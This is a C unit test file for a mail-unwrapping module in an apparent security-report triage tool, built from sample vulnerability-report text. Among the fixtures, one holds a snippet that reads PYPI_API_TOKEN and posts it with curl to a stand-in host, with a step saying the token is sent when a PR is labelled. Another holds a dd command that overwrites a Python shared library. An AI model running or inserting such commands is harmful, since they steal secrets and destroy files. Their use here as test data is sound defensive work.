/*
 * test_unwrap.c — unwrap.c: command and log lines a client hard-wrapped
 * joined back, rule by rule, what is left alone, and in a parsed message
 * (with parse_leaf.c's no-break spaces read as spaces).
 */
#include <string.h>

#include "sectriage/common.h"
#include "sectriage/message.h"
#include "sectriage/unwrap.h"

/* A prose line of 76 columns: the text's wrap width in the cases below. */
#define P76 "Prose wrapped at seventy-six columns by the client that sent it, as Outlook"

static const struct {
	const char *in;
	const char *out;   /* NULL: nothing joined */
} cases[] = {
	/* an indented command whose URL did not fit: its tail goes back */
	{ P76 "\n\n  $ curl -s -X POST\nhttps://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept \\\n"
	  "      -H \"Authorization: Bearer x\"\n  {\"status\":\"accepted\"}\n",
	  P76 "\n\n  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept \\\n"
	  "      -H \"Authorization: Bearer x\"\n  {\"status\":\"accepted\"}\n" },
	/* two tails of one line; the block ends after them */
	{ P76 "\n    2026-01-14T10:22:01Z msbd[812]: WARN vsock: cid 7 released while exec\n"
	  "in_flight=1 session=5c1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c\n"
	  "stale=true\n\nThanks\n",
	  P76 "\n    2026-01-14T10:22:01Z msbd[812]: WARN vsock: cid 7 released while exec"
	  " in_flight=1 session=5c1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c"
	  " stale=true\n\nThanks\n" },
	/* CR LF in, LF out */
	{ P76 "\r\n\r\n  dd of=/usr/local/lib/libpython3.12.so.1.0 if=/dev/zero count=1\r\n"
	  "conv=notrunc\r\n  15+0 records in\r\n",
	  P76 "\n\n  dd of=/usr/local/lib/libpython3.12.so.1.0 if=/dev/zero count=1"
	  " conv=notrunc\n  15+0 records in\n" },
	/* a first word that would have fitted: the writer broke the line */
	{ P76 "\n\n  $ msb --version\nmsb 0.12.1\n  $ uname -r\n", NULL },
	/* a command at column 0 may have its output there: not a block */
	{ P76 "\n\n$ curl -s https://api.example/v1/snapshots/snap_01 \\\n"
	  "    -H \"Authorization: Bearer msb_ro_test_1111111111111111\"\n"
	  "{\"error\":\"forbidden\",\"message\":\"role read-only may not\"}\n\n", NULL },
	/* prose after the tail: the block ended, the line is the writer's */
	{ P76 "\n\n  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1\n"
	  "Afterwards the guest could read everything.\nAnd more prose here.\n", NULL },
	/* a quote, a prompt or an indented line is no tail */
	{ P76 "\n\n  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1\n"
	  "> quoted-line-that-is-long-enough-to-have-not-fitted-on-the-line\n", NULL },
	{ P76 "\n\n  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1\n"
	  "$ msb-second-command-with-a-long-name --and-flags\n", NULL },
	/* a text whose lines are all short was never wrapped */
	{ "Output:\n\n    PID COMMAND\ncaf\xc3\xa9 ok\n", NULL },
	/* a text with a line over 80 columns was not hard-wrapped */
	{ "  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept/and/more/path\n"
	  "https://another.example/long/url/that/would/not/have/fitted/anyway/at/all\n\n", NULL },
	/* a quoted line over 80 columns was not the writer's to wrap: the
	 * text is still hard-wrapped */
	{ P76 "\n> On Mon, 14 Dec 2026 at 10:02, microsandbox security <security@superrad.company> wrote:\n"
	  "\n  $ curl -s -X POST\nhttps://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept\n"
	  "  {\"status\":\"accepted\"}\n",
	  P76 "\n> On Mon, 14 Dec 2026 at 10:02, microsandbox security <security@superrad.company> wrote:\n"
	  "\n  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept\n"
	  "  {\"status\":\"accepted\"}\n" },
	/* nor is a word longer than any wrapped line (a URL), alone or first */
	{ P76 "\n\n    microsandbox:http POST\n"
	  "https://cloud.microsandbox.example/api/v1/sandboxes/sbx_01JDQ4M7ZC/exec/streams/logs +2ms\n"
	  "    microsandbox:http 201 Created\n",
	  P76 "\n\n    microsandbox:http POST"
	  " https://cloud.microsandbox.example/api/v1/sandboxes/sbx_01JDQ4M7ZC/exec/streams/logs +2ms\n"
	  "    microsandbox:http 201 Created\n" },
	/* the width is the writer's own longest line, not a quoted one's: a
	 * first word that fits in 78 columns but not in 76 was broken */
	{ P76 "\n> We filed it as SEC-2026-0512 and will triage it within seven days, thank you\n\n"
	  "  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1 --cpus\n--mem 512\n\n",
	  P76 "\n> We filed it as SEC-2026-0512 and will triage it within seven days, thank you\n\n"
	  "  msb run --name a --volume /srv/data:/data --net-allow 10.0.0.1 --cpus --mem 512\n\n" },
	/* a long code line whose first word ends where a client would have
	 * broken it after: the text was not wrapped */
	{ P76 "\n\n    fn main() { let t = std::env::var(\"PYPI_API_TOKEN\").unwrap_or_default();\n"
	  "                    std::process::Command::new(\"curl\").args([\"-d\", &t, "
	  "\"https://collect.example/t\"]).status().ok(); }\n"
	  "3. Open a PR. When the label is added, the token is sent.\n", NULL },
	{ "", NULL },
	{ "\n\n", NULL },
};

static void
test_table(void)
{
	g_autoptr(GString) none = g_string_new(NULL);
	g_assert_false(st_unwrap_blocks(none, NULL, 0));
	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GString) out = g_string_new(NULL);
		gboolean joined = st_unwrap_blocks(out, cases[i].in, strlen(cases[i].in));
		if (cases[i].out == NULL) {
			if (joined || out->len)
				g_error("case %zu: joined \"%s\"", i, out->str);
			continue;
		}
		if (!joined || strcmp(out->str, cases[i].out) != 0)
			g_error("case %zu: gave \"%s\", want \"%s\"", i, out->str, cases[i].out);
		g_assert_cmpuint(out->len, <=, strlen(cases[i].in));
	}
}

/* Long texts of any line shape: linear, never longer. */
static void
test_linear(void)
{
	static const char *const units[] = { "  a-long-indented-line-of-text-that-goes-on-and-on-to-col-70\n",
					     "tail-word-that-does-not-fit-on-the-line-before-it-at-all\n",
					     "\n", "x\n" };
	g_autoptr(GString) s = g_string_new(P76 "\n");
	g_autoptr(GRand) rnd = g_rand_new_with_seed(76);
	while (s->len < (2 << 20))
		g_string_append(s, units[g_rand_int_range(rnd, 0, G_N_ELEMENTS(units))]);
	g_autoptr(GString) out = g_string_new(NULL);
	gint64 t0 = g_get_monotonic_time();
	g_assert_true(st_unwrap_blocks(out, s->str, s->len));
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 2 * G_USEC_PER_SEC);
	g_assert_cmpuint(out->len, ==, s->len);
}

/* In a message: the body text of a plain part is joined; flowed text is
 * unwrapped by its own rules first. */
static void
test_message(void)
{
	const char *text =
		"From: a@example.org\nSubject: s\nMIME-Version: 1.0\n"
		"Content-Type: text/plain; charset=us-ascii\n\n"
		P76 "\n\n  $ curl -s -X POST\nhttps://cloud.microsandbox.example/api/v1/invites/inv_DUMMY7f3a/accept\n"
		"  {\"status\":\"accepted\"}\n";
	g_autoptr(StMessage) m = st_message_parse_data(text, strlen(text), NULL);
	g_assert_nonnull(strstr(m->body_text, "  $ curl -s -X POST https://cloud.microsandbox.example/api/v1/invites/"
					      "inv_DUMMY7f3a/accept\n  {\"status\""));

	/* no-break spaces (text copied from a web console) are spaces, so
	 * an indented transcript stays indented; other text is untouched */
	const char *nbsp =
		"From: a@example.org\nSubject: s\nMIME-Version: 1.0\n"
		"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
		"Output:\n\n\xc2\xa0\xc2\xa0\xc2\xa0\xc2\xa0PID\xc2\xa0" "COMMAND\n"
		"caf\xc3\xa9 \xc2\xbb ok\xc2\xa0\n";
	g_autoptr(StMessage) n = st_message_parse_data(nbsp, strlen(nbsp), NULL);

	/* two text parts are two blocks: a blank line between them, so a
	 * trailing part's "Sent from my iPhone" is no line of the part above */
	const char *two =
		"From: a@example.org\nSubject: s\nMIME-Version: 1.0\n"
		"Content-Type: multipart/mixed; boundary=\"b\"\n\n"
		"--b\nContent-Type: text/plain\n\npls credit me as @wren\n"
		"--b\nContent-Type: text/plain\n\nSent from my iPhone\n--b--\n";
	g_autoptr(StMessage) t = st_message_parse_data(two, strlen(two), NULL);
	g_assert_nonnull(strstr(t->body_text, "@wren\n\nSent from my iPhone"));
	g_assert_nonnull(strstr(n->body_text, "Output:\n\n    PID COMMAND\ncaf\xc3\xa9 \xc2\xbb ok \n"));
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/unwrap/table", test_table);
	g_test_add_func("/unwrap/linear", test_linear);
	g_test_add_func("/unwrap/message", test_message);
	return g_test_run();
}
